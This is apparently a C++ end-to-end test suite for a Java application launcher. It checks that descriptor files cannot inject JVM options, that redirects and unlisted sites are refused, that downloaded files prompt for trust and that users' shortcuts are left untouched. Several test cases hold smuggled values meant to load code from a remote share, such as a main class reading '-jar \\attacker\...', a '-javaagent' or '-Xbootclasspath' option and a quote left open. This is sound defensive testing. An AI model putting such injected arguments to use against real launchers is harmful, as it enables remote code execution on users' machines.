// What a launch runs and writes stays inside what was trusted: Java's
// command line from checked pieces, every request and redirect under the
// administrator's list, a downloaded descriptor asked about like a link,
// the builds in their own folders and the user's own shortcuts untouched.
// Wine writes a "file:Zone.Identifier" stream as a file of that name beside
// the descriptor; the launcher opens it by the same call Windows answers
// from the stream.
#include "base/fileutil.h"
#include "tests/support/jar_maker.h"
#include "tests/support/test_server.h"
#include "tests/win/launcher_fixture.h"

#include <filesystem>
#include <set>

namespace {

const std::string LOG = "C:\\quorvel\\launcher\\launcher.log";

CannedResponse ok(const std::string& body)
{
    return http_response("200 OK", {"Content-Length: " + std::to_string(body.size())}, body);
}

// One launch (two for a site trusted once) of a descriptor of the code base
// $SITE/app/, where a.jar is a jar and r.jar redirects to $OTHER. Only $SITE
// is on the list when there is one; $OTHER is never asked for anything.
struct TrustCase {
    const char* name;
    bool listed;
    std::string members;  // after the code base
    int zone;             // the descriptor file's ZoneId; -1 none
    int answer;           // to a question
    std::string dialog;   // the one box's text over every launch, "" none
    std::string java;     // what Java got after java.exe, "" when it never started
};

void PrintTo(const TrustCase& c, std::ostream* out)
{
    *out << c.name;
}

const std::string APP = R"(, "resources": ["a.jar"], "mainclass": "app.Main")";
const std::string QUESTION = "Do you want to start an application from $SITE?";
const std::string REFUSED = "Your administrator does not allow the Java option ";
const std::string STARTED = "-cp C:\\quorvel\\launcher\\cache\\$FOLDER\\* app.Main ";

const TrustCase CASES[] = {
    {"OrdinaryOptionsPassTheList", true, APP + R"(, "vmargs": "-Xmx64m -Dq=\"a b\" -XX:+UseG1GC --add-opens java.base/java.lang=ALL-UNNAMED")",
     -1, IDYES, "", "-Xmx64m \"-Dq=a b\" -XX:+UseG1GC --add-opens java.base/java.lang=ALL-UNNAMED " + STARTED},
    {"WithoutAListOptionsStandAsGiven", false, APP + R"(, "vmargs": "-javaagent:a.jar -Dq=\"a b\"")",
     -1, IDYES, "", "-javaagent:a.jar -Dq=\"a b\" " + STARTED},
    {"AMainClassThatIsAnOption", false, R"(, "resources": [], "mainclass": "-jar \\\\attacker\\DavWWWRoot\\x.jar")",
     -1, IDYES, "Error, \"mainclass\" is not valid in nlp file", ""},
    {"AnAgent", true, APP + R"(, "vmargs": "-Xmx64m -javaagent:\\\\host\\a.jar")", -1, IDYES,
     REFUSED + "-javaagent:\\\\host\\a.jar", ""},
    {"AnArgumentFile", true, APP + R"(, "vmargs": "@\\\\host\\args")", -1, IDYES,
     REFUSED + "@\\\\host\\args", ""},
    {"ABootClassPath", true, APP + R"(, "vmargs": "-Xbootclasspath/a:\\\\host\\x.jar")", -1, IDYES,
     REFUSED + "-Xbootclasspath/a:\\\\host\\x.jar", ""},
    {"AQuoteLeftOpen", true, APP + R"(, "vmargs": "-Dq=\"", "arguments": "\" -jar x")", -1, IDYES,
     REFUSED + "-Dq=\"", ""},
    {"ARedirectToAnotherSite", true, R"(, "resources": ["r.jar"], "mainclass": "app.Main")", -1,
     IDYES, "Error downloading resource", ""},
    {"AnIconOfAnotherSite", true, APP + R"(, "title": "Trust icon", "shortcut": ["desktop"], "icon": "$OTHER/i.ico")",
     -1, IDYES, "", STARTED},
    {"ADownloadedDescriptorDeclined", false, APP, 3, IDNO, QUESTION, ""},
    {"ADownloadedDescriptorTrustedOnce", false, APP, 3, IDYES, QUESTION, STARTED},
    {"ARestrictedSitesDescriptor", false, APP, 4, IDNO, QUESTION, ""},
    {"AnIntranetDescriptorAsksNothing", false, APP, 1, IDNO, "", STARTED},
    {"ADownloadedDescriptorUnderTheList", true, APP, 3, IDNO, "", STARTED},
    {"ARuntimeNamedLikeTheRecord", false, APP + R"(, "jre": "$SITE/shortcuts.txt")", -1, IDYES,
     "Error, \"jre\" is not valid in nlp file", ""},
    {"ARuntimeNamedLikeTheLauncher", false, APP + R"(, "jre": "Launcher.exe")", -1, IDYES,
     "Error, \"jre\" is not valid in nlp file", ""},
    {"ALauncherThatIsNoProgram", false, APP + R"(, "launcher": "shortcuts.txt")", -1, IDYES,
     "Error, \"launcher\" is not valid in nlp file", ""},
};

class LauncherTrustE2E : public LauncherE2E, public testing::WithParamInterface<TrustCase> {
protected:
    std::string origin(const TestServer& server) const
    {
        return "http://127.0.0.1:" + std::to_string(server.port());
    }

    std::string filled(std::string text) const
    {
        const std::pair<std::string, std::string> names[] = {
            {"$SITE", origin(server_)},
            {"$OTHER", origin(other_)},
            {"$FOLDER", "http###127.0.0.1#" + std::to_string(server_.port()) + "#app#"}};
        for (const auto& name : names) {
            for (size_t at = text.find(name.first); at != std::string::npos;
                 at = text.find(name.first, at))
                text.replace(at, name.first.size(), name.second);
        }
        return text;
    }

    TestServer server_;
    TestServer other_;
};

TEST_P(LauncherTrustE2E, RunsAndWritesOnlyWhatWasTrusted)
{
    const TrustCase& c = GetParam();
    place_fake_java();
    server_.on("/app/a.jar", ok(make_jar("a.txt", "jar")));
    server_.on("/app/r.jar", http_response("302 Found", {"Location: " + origin(other_) +
                                                         "/app/a.jar", "Content-Length: 0"}, ""));
    server_.on_conditional("/app/a.jar", http_response("304 Not Modified", {}, ""));
    const std::string list = origin(server_) + '\0' + '\0';
    ASSERT_TRUE(!c.listed || RegSetKeyValueA(HKEY_LOCAL_MACHINE,
                                             "Software\\Policies\\Quorvel\\Launcher",
                                             "AllowedSites", REG_MULTI_SZ, list.data(),
                                             static_cast<DWORD>(list.size())) == ERROR_SUCCESS);
    std::string path =
        write_descriptor("app.nlp", filled(R"({"codebase": "$SITE/app/")" + c.members + "}"));
    if (c.zone >= 0)
        write_file(path + ":Zone.Identifier", "[ZoneTransfer]\r\nZoneId=" + std::to_string(c.zone));
    dialogs_.answer(c.answer);
    int launches = c.zone >= 3 && c.answer == IDYES ? 2 : 1;
    for (int i = 0; i < launches; i++) {
        ResetEvent(java_started_);
        if (c.java.empty() && c.answer == IDYES)
            close_main_window_after_box(dialogs_, 1, start("/S \"" + path + "\""));
        else
            run("/S \"" + path + "\"");
        ASSERT_TRUE(c.java.empty() || wait_for_java());
    }

    std::vector<std::string> texts;
    for (const DialogRecord& record : dialogs_.records())
        texts.push_back(record.text);
    EXPECT_EQ(texts, c.dialog.empty() ? std::vector<std::string>{}
                                      : std::vector<std::string>{filled(c.dialog)})
        << read_file(LOG);
    EXPECT_EQ(java_starts(), std::vector<std::string>(c.java.empty() ? 0 : launches,
                                                      std::string(JAVA) + " " + filled(c.java)));
    EXPECT_TRUE(other_.requests().empty());
    EXPECT_EQ(read_file(LOG).find(filled("$OTHER/app/a.jar: not asked")) != std::string::npos,
              c.members.find("r.jar") != std::string::npos);
    // Nothing but the launcher's own files came to the install root, and
    // the launcher is the one installed.
    std::set<std::string> names;
    for (const auto& entry : std::filesystem::directory_iterator("C:\\quorvel\\launcher"))
        names.insert(entry.path().filename().string());
    for (const char* made : {"cache", "sites", "releases", "launcher.log"})
        names.erase(made);
    if (c.members.find("\"title\"") != std::string::npos)
        names.erase("shortcuts.txt");
    EXPECT_EQ(names, (std::set<std::string>{"Launcher.exe", "java"}));
    EXPECT_EQ(read_file(INSTALLED), read_file(built_launcher()));
    file_delete((known_folder(FOLDERID_Desktop) + "\\Trust icon.lnk").c_str());
}

INSTANTIATE_TEST_SUITE_P(Cases, LauncherTrustE2E, testing::ValuesIn(CASES),
                         [](const auto& info) { return std::string(info.param.name); });

// The user's own files named like an application's shortcut survive its
// launch, its title's change and the uninstall; a link the record names
// that the user replaced is theirs from then on. The root is made first.
TEST_F(LauncherE2E, ShortcutsNeverTouchAFileTheLauncherDidNotMake)
{
    TestServer server;
    run("/S");
    // Wine keeps no access list of its own (it shows one made from the
    // file's mode): it proves that the root is made by the calls that set
    // the list, and that they succeed.
    for (const char* made : {"install root: C:\\quorvel\\ made, the user's alone",
                             "install root: C:\\quorvel\\launcher\\ made, the user's alone"})
        EXPECT_NE(read_file(LOG).find(made), std::string::npos) << made;
    place_fake_java();
    server.on("/app/a.jar", ok(make_jar("a.txt", "jar")));
    server.on_conditional("/app/a.jar", http_response("304 Not Modified", {}, ""));
    const std::string desktop = known_folder(FOLDERID_Desktop) + "\\";
    const std::string menu = known_folder(FOLDERID_Programs) + "\\";
    auto launch = [&](const std::string& title, const std::string& places) {
        std::string path = write_descriptor(
            "trust.nlp", "{\"codebase\": \"http://127.0.0.1:" + std::to_string(server.port()) +
                             "/app/\", \"resources\": [\"a.jar\"], \"mainclass\": \"M\", "
                             "\"title\": \"" + title + "\", \"shortcut\": " + places + "}");
        ResetEvent(java_started_);
        run("/S \"" + path + "\"");
        ASSERT_TRUE(wait_for_java());
    };
    const std::string mine = desktop + "Trust mine.lnk";
    write_file(mine, "the user's own");

    launch("Trust mine", R"(["desktop"])");
    EXPECT_EQ(read_file(mine), "the user's own");
    EXPECT_EQ(read_shortcut(desktop + "Trust mine (2).lnk").arguments,
              "\"C:\\quorvel\\launcher\\sites\\trust.nlp\"");

    launch("Trust renamed", R"(["desktop", "menu"])");
    EXPECT_EQ(read_file(mine), "the user's own");
    EXPECT_FALSE(file_exists(desktop + "Trust mine (2).lnk"));
    EXPECT_TRUE(read_shortcut(desktop + "Trust renamed.lnk").loaded);
    EXPECT_TRUE(read_shortcut(menu + "Trust renamed.lnk").loaded);

    write_file(desktop + "Trust renamed.lnk", "replaced by the user");
    run("--uninstall", INSTALLED);
    wait_for_process_named("Launcher-uninstall.exe");
    EXPECT_EQ(read_file(mine), "the user's own");
    EXPECT_EQ(read_file(desktop + "Trust renamed.lnk"), "replaced by the user");
    EXPECT_FALSE(file_exists(menu + "Trust renamed.lnk"));
    for (const std::string& left : {mine, desktop + "Trust renamed.lnk"})
        file_delete(left.c_str());
}

} // namespace
